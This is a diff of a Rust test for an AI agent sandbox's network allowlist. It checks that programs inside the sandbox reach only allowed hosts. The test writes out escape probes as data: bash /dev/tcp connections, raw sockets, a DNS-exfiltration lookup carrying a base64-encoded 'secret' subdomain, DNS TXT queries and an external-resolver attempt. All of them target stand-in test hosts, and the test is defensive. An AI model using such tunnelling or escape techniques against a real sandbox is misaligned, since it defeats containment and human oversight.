@@ -2,8 +2,9 @@
 //! out is the host-side proxy. Test hosts are loopback servers this test starts on
 //! 127.0.0.2 (allowed) and 127.0.0.3 (denied); the proxy learns their names from
 //! `AGENT_SANDBOX_TEST_HOSTS`, so no system file changes. Each legitimate use sits
-//! beside the attacks that must fail: another name, another port, a raw address, a
-//! direct connection that ignores the proxy variables, the system resolver.
+//! beside the attacks that must fail: another name, another port, a raw address, the
+//! same through the resolver inside (programs that ignore the proxy variables), and
+//! DNS itself as a way out.
 
 use std::{
     io::{Read, Write},
@@ -27,13 +28,12 @@ fn server(addr: &str, name: &'static str) -> (u16, Arc<Mutex<Vec<String>>>) {
                 let mut stream = stream;
                 let mut head = Vec::new();
                 let mut byte = [0u8; 1];
-                while !head.ends_with(b"\r\n\r\n") && !head.ends_with(b"\n") || head.is_empty() {
+                // The whole head: closing with unread input would reset the connection
+                // and could drop the answer on its way.
+                while !head.ends_with(b"\r\n\r\n") && head.len() <= 8192 {
                     match stream.read(&mut byte) {
                         Ok(1) => head.push(byte[0]),
                         _ => break,
-                    }
-                    if head.ends_with(b"\r\n\r\n") || head.len() > 8192 {
-                        break;
                     }
                 }
                 let text = String::from_utf8_lossy(&head).into_owned();
@@ -73,7 +73,7 @@ probe direct-denied-ip {curl} --noproxy '*' http://127.0.0.3:{denied}/
 probe urllib-proxied python3 -c 'import urllib.request; print(urllib.request.urlopen("http://allowed.test:{allowed}/", timeout=5).read())'
 probe urllib-no-proxy env -u http_proxy -u HTTP_PROXY -u all_proxy -u ALL_PROXY python3 -c 'import urllib.request; print(urllib.request.urlopen("http://allowed.test:{allowed}/", timeout=5).read())'
 probe raw-socket python3 -c 'import socket; socket.create_connection(("127.0.0.2", {allowed}), timeout=5); print("CONNECTED")'
-probe raw-socket-name python3 -c 'import socket; socket.create_connection(("allowed.test", {allowed}), timeout=5); print("CONNECTED")'
+probe raw-socket-name python3 -c 'import socket; s = socket.create_connection(("allowed.test", {allowed}), timeout=5); s.sendall(b"GET / HTTP/1.0\r\n\r\n"); s.recv(100); print("CONNECTED")'
 probe resolver getent hosts allowed.test
 probe ssh-proxy-allowed sh -c 'printf "GET / HTTP/1.0\r\n\r\n" | /run/agent-sandbox/agent-sandbox net-connect allowed.test {allowed}'
 probe ssh-proxy-denied sh -c '/run/agent-sandbox/agent-sandbox net-connect denied.test {denied} </dev/null; echo "exit $?"'
@@ -128,23 +128,20 @@ fn allowlist_lets_allowed_names_through_the_proxy_and_nothing_else() {
         "{out}"
     );
 
-    // Whatever ignores the proxy has no route and no resolver.
-    for name in ["direct-name", "direct-ip", "direct-denied-ip"] {
+    // Whatever ignores the proxy reaches the allowed name through the resolver inside
+    // (`transparent_*` below has the attacks on that path), and no raw address.
+    assert_eq!(line(&out, "direct-name"), "HELLO allowed  200", "{out}");
+    for name in ["direct-ip", "direct-denied-ip"] {
         let got = line(&out, name);
-        assert!(got.contains("curl: (6)") || got.contains("curl: (7)"), "{name}: {got}");
+        assert!(got.contains("curl: (7)"), "{name}: {got}");
     }
-    for name in ["urllib-no-proxy", "raw-socket", "raw-socket-name"] {
-        let got = line(&out, name);
-        assert!(got.contains("rror") && !got.contains("HELLO") && !got.contains("CONNECTED"), "{name}: {got}");
-    }
-    assert_eq!(line(&out, "resolver"), "", "{out}");
+    assert_eq!(line(&out, "urllib-no-proxy"), "b'HELLO allowed\\n'", "{out}");
+    assert_eq!(line(&out, "raw-socket-name"), "CONNECTED", "{out}");
+    let got = line(&out, "raw-socket");
+    assert!(got.contains("rror") && !got.contains("CONNECTED"), "raw-socket: {got}");
+    assert_eq!(line(&out, "resolver"), "127.77.0.1      allowed.test", "{out}");
     if out.contains("node-fetch: ") {
-        // Node 20 ignores the proxy variables (NODE_USE_ENV_PROXY needs Node 24).
-        assert!(
-            line(&out, "node-fetch").starts_with("failed")
-                || line(&out, "node-fetch").starts_with("FETCHED HELLO allowed"),
-            "{out}"
-        );
+        assert!(line(&out, "node-fetch").starts_with("FETCHED HELLO allowed"), "{out}");
         assert!(line(&out, "node-fetch-ip").starts_with("failed"), "{out}");
     }
 
@@ -163,6 +160,151 @@ fn allowlist_lets_allowed_names_through_the_proxy_and_nothing_else() {
     );
     assert!(log.contains("bytes_out=") && log.contains("duration_ms="), "{log}");
     assert!(log.contains(&format!("\"target\":\"denied.test:{denied}\",\"result\":\"blocked\"")), "{log}");
+}
+
+/// What programs that ignore the proxy variables do, each attack beside the legitimate
+/// use; prints `NAME: RESULT` lines.
+fn transparent_probes(allowed: u16, denied: u16) -> String {
+    let bare = "env -u http_proxy -u HTTP_PROXY -u https_proxy -u HTTPS_PROXY -u all_proxy -u ALL_PROXY";
+    let curl = "curl -sS -m 5 --noproxy '*' -o - -w ' %{http_code}'";
+    let py_get = |host: &str, port: u16| {
+        format!(
+            "python3 -c 'import socket; s = socket.create_connection((\"{host}\", {port}), timeout=5); \
+             s.sendall(b\"GET / HTTP/1.0\\r\\n\\r\\n\"); print(b\"\".join(iter(lambda: s.recv(200), b\"\")).decode().split(\"\\n\")[-2])'"
+        )
+    };
+    let py_resolve = |host: &str, family: &str| {
+        format!(
+            "python3 -c 'import socket; print(sorted({{a[4][0] for a in socket.getaddrinfo(\"{host}\", 443, \
+             socket.{family})}}))'"
+        )
+    };
+    format!(
+        r#"
+probe() {{ name=$1; shift; out=$("$@" 2>&1 | tr '\n' ' '); printf '%s: %s\n' "$name" "$out"; }}
+probe curl-allowed {curl} http://allowed.test:{allowed}/
+probe curl-denied {curl} http://denied.test:{denied}/
+probe curl-unknown {curl} http://unknown.test:{allowed}/
+probe curl-other-port {curl} http://allowed.test:{denied}/
+probe curl-raw-ip {curl} http://127.0.0.2:{allowed}/
+probe urllib-allowed {bare} python3 -c 'import urllib.request; print(urllib.request.urlopen("http://allowed.test:{allowed}/", timeout=5).read())'
+probe urllib-denied {bare} python3 -c 'import urllib.request; print(urllib.request.urlopen("http://denied.test:{denied}/", timeout=5).read())'
+probe socket-allowed {py_allowed}
+probe socket-denied {py_denied}
+probe socket-raw-ip {py_raw}
+probe bash-tcp-allowed bash -c 'exec 3<>/dev/tcp/allowed.test/{allowed}; printf "GET / HTTP/1.0\r\n\r\n" >&3; tail -n 1 <&3'
+probe bash-tcp-denied bash -c 'exec 3<>/dev/tcp/denied.test/{denied} && echo OPENED'
+probe ipv4 {v4}
+probe ipv6 {v6}
+probe getent-denied sh -c 'getent hosts denied.test; echo "exit $?"'
+probe dns-exfil sh -c 'getent hosts c2VjcmV0LWRhdGE.unknown.test; echo "exit $?"'
+probe dns-txt python3 -c '
+import socket
+q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07allowed\x04test\x00\x00\x10\x00\x01"
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q, ("127.0.0.1", 53))
+r = s.recv(512); print("rcode", r[3] & 15, "answers", r[7])'
+probe external-resolver python3 -c '
+import socket
+ifaces = [line.split(":")[0].strip() for line in open("/proc/net/dev").read().splitlines()[2:]]
+assert ifaces == ["lo"], ifaces  # never send anything unless this namespace is private
+q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
+try:
+    s.sendto(q, ("192.0.2.53", 53)); print("SENT", s.recv(512))
+except OSError as err:
+    print("failed", err.errno)'
+probe caps grep -E '^Cap(Eff|Bnd|Amb)' /proc/self/status
+if command -v node >/dev/null; then
+  probe node-fetch {bare} node -e 'fetch("http://allowed.test:{allowed}/").then(r => r.text()).then(t => console.log("FETCHED", t)).catch(e => console.log("failed", String(e.cause && e.cause.code)))'
+  probe node-fetch-denied {bare} node -e 'fetch("http://denied.test:{denied}/").then(r => r.text()).then(t => console.log("FETCHED", t)).catch(e => console.log("failed", String(e.cause && e.cause.code)))'
+fi
+"#,
+        py_allowed = py_get("allowed.test", allowed),
+        py_denied = py_get("denied.test", denied),
+        py_raw = py_get("127.0.0.2", allowed),
+        v4 = py_resolve("allowed.test", "AF_INET"),
+        v6 = py_resolve("allowed.test", "AF_INET6"),
+    )
+}
+
+#[test]
+fn transparent_programs_that_ignore_the_proxy_reach_allowed_names_and_nothing_else() {
+    require_bwrap!();
+    let world = World::new();
+    let (allowed, allowed_seen) = server("127.0.0.2", "allowed");
+    let (denied, denied_seen) = server("127.0.0.3", "denied");
+    // allowed.test on its test port and on the default 80 and 443: the resolver's
+    // listeners on those need the namespace's low ports, as root and unprivileged.
+    world.project_config(&format!(
+        r#"{{"network": {{"allow": ["allowed.test", "allowed.test:{allowed}", "denied.test:{denied}"], "deny": ["denied.test"], "allowPrivate": ["127.0.0.2"]}}}}"#
+    ));
+    let out = world
+        .cmd()
+        .env("AGENT_SANDBOX_TEST_HOSTS", HOSTS)
+        .args(["exec", "--", "sh", "-c", &transparent_probes(allowed, denied)])
+        .run()
+        .ok();
+
+    // The legitimate uses: by name, without the proxy variables, however the program
+    // connects.
+    assert_eq!(line(&out, "curl-allowed"), "HELLO allowed  200", "{out}");
+    assert_eq!(line(&out, "urllib-allowed"), "b'HELLO allowed\\n'", "{out}");
+    assert_eq!(line(&out, "socket-allowed"), "HELLO allowed", "{out}");
+    assert_eq!(line(&out, "bash-tcp-allowed"), "HELLO allowed", "{out}");
+    assert_eq!(line(&out, "ipv4"), "['127.77.0.1']", "{out}");
+    if out.contains("node-fetch: ") {
+        assert_eq!(line(&out, "node-fetch"), "FETCHED HELLO allowed", "{out}");
+        assert!(line(&out, "node-fetch-denied").starts_with("failed ENOTFOUND"), "{out}");
+    }
+
+    // A denied or unlisted name does not exist; DNS carries nothing out.
+    assert!(line(&out, "curl-denied").contains("curl: (6) Could not resolve host: denied.test"), "{out}");
+    assert!(line(&out, "curl-unknown").contains("curl: (6) Could not resolve host: unknown.test"), "{out}");
+    assert!(line(&out, "urllib-denied").contains("Name or service not known"), "{out}");
+    assert!(line(&out, "socket-denied").contains("socket.gaierror"), "{out}");
+    assert!(line(&out, "bash-tcp-denied").contains("denied.test: Name or service not known"), "{out}");
+    assert_eq!(line(&out, "getent-denied"), "exit 2", "{out}");
+    assert_eq!(line(&out, "dns-exfil"), "exit 2", "{out}");
+    // TXT (and every type but A and AAAA): refused, with no answer.
+    assert_eq!(line(&out, "dns-txt"), "rcode 5 answers 0", "{out}");
+    // No IPv6 address for a name (no data, so getaddrinfo finds none).
+    assert!(line(&out, "ipv6").contains("socket.gaierror"), "{out}");
+    // Another resolver: no route out of the namespace.
+    assert_eq!(line(&out, "external-resolver"), "failed 101", "{out}");
+
+    // An allowed name's other port, a raw address: nothing listens there.
+    assert!(line(&out, "curl-other-port").contains("curl: (7)"), "{out}");
+    assert!(line(&out, "curl-raw-ip").contains("curl: (7)"), "{out}");
+    assert!(line(&out, "socket-raw-ip").contains("ConnectionRefusedError"), "{out}");
+
+    // The agent holds no capability (the namespace's low ports need none).
+    assert_eq!(
+        line(&out, "caps"),
+        "CapEff:\t0000000000000000 CapBnd:\t0000000000000000 CapAmb:\t0000000000000000",
+        "{out}"
+    );
+
+    assert_eq!(*denied_seen.lock().expect("lock"), Vec::<String>::new());
+    assert!(
+        allowed_seen
+            .lock()
+            .expect("lock")
+            .iter()
+            .all(|request| request == "GET / HTTP/1.0" || request.starts_with("GET / HTTP/1.1")),
+        "{allowed_seen:?}"
+    );
+
+    // The audit log says how each came in, and what the resolver refused.
+    let log = world.audit_log();
+    assert!(log.contains(&format!("\"target\":\"allowed.test:{allowed}\",\"result\":\"allowed\"")), "{log}");
+    assert!(log.contains("mode=transparent bytes_out="), "{log}");
+    assert!(log.contains("\"target\":\"denied.test\",\"result\":\"blocked\""), "{log}");
+    assert!(log.contains("mode=dns denied.test:443 is denied by network.deny"), "{log}");
+    assert!(
+        log.contains("mode=dns c2vjcmv0lwrhdgE.unknown.test is not on the network allowlist")
+            || log.contains("mode=dns c2vjcmv0lwrhdge.unknown.test is not on the network allowlist"),
+        "{log}"
+    );
 }
 
 #[test]
